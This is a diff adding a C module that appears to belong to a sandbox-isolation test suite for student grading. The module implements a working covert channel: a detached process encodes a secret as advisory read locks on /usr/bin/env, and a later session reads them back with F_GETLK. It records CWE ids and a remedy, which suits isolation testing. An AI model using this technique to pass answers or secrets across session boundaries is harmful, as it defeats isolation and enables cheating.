@@ -1,0 +1,93 @@
+// SPDX-License-Identifier: MIT
+/*
+ * record-locks.c - bits on a file that nobody can write to.
+ *
+ * Goal: another student's work, or an answer passed on.
+ * Means: a read lock needs no right but to read, so that the interpreter's own file will do, and a
+ * lock is a range of bytes, whether the file has them or not. A survivor of the first student locks
+ * one byte for each letter; the next one asks, with F_GETLK, which are taken:
+ *
+ *     byte = 256 x place + letter
+ */
+#include "attacks/attack.h"
+
+#include <fcntl.h>
+#include <string.h>
+#include <unistd.h>
+
+#define BOARD	"/usr/bin/env"
+#define LETTERS 32
+#define LIFE	5
+
+static enum claim run(const struct brief *b)
+{
+	int board = open(BOARD, O_RDONLY | O_CLOEXEC), found = 0;
+	char text[LETTERS];
+
+	if (board < 0)
+		return failed(BOARD);
+	attempting(b);
+	for (int i = 0; i < LETTERS; i++) {
+		struct flock lock = { .l_type = F_WRLCK, .l_start = 256 * i, .l_len = 256 };
+
+		if (fcntl(board, F_GETLK, &lock))
+			return denied("F_GETLK");
+		if (lock.l_type != F_UNLCK)
+			text[found++] = (char)(lock.l_start % 256);
+	}
+	if (!found)
+		return denied("F_GETLK: no lock");
+	loot(text, (size_t)found);
+	return CLAIM_DONE;
+}
+
+/* Locks belong to the process that sets them. It leaves the session and every pipe, and stays. */
+static _Noreturn void survive(const char *word, int ready)
+{
+	int board = open(BOARD, O_RDONLY | O_CLOEXEC);
+
+	setsid();
+	for (int i = 0; i < LETTERS && word[i]; i++) {
+		struct flock lock = { .l_type = F_RDLCK, .l_start = 256 * i + word[i], .l_len = 1 };
+
+		fcntl(board, F_SETLK, &lock);
+	}
+	close(ready);
+	close_range(0, 2, 0);
+	sleep(LIFE);
+	_exit(0);
+}
+
+/* An accomplice; refused a survivor, one who keeps the work in a file. */
+static enum claim victim(const struct brief *b)
+{
+	int ready[2], fd;
+	pid_t pid;
+	char end;
+
+	if (pipe(ready))
+		return failed("pipe");
+	pid = fork();
+	if (!pid)
+		survive(b->secret, ready[1]);
+	close(ready[1]);
+	if (pid > 0 && read(ready[0], &end, 1) == 0)
+		return CLAIM_DONE;
+	fd = open(b->name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
+	return fd < 0 || write(fd, b->secret, strlen(b->secret)) < 0 ? failed("keep the work") :
+									CLAIM_DONE;
+}
+
+const struct attack attack = {
+	.effect = "an answer is passed on to the next student",
+	.means = "a survivor's read locks on a system file, asked for with F_GETLK",
+	.oracle = "secret:victim",
+	.scene = SCENE_AFTER_VICTIM,
+	.quick = true,
+	.id = "IPC-08",
+	.attack_id = "T1559, CWE-514, CWE-459",
+	.remedy = "end every process of a student, whatever its session, before the next starts",
+	.refs = (const char *const[]){ "fcntl(2), Advisory record locking", NULL },
+	.run = run,
+	.victim = victim,
+};
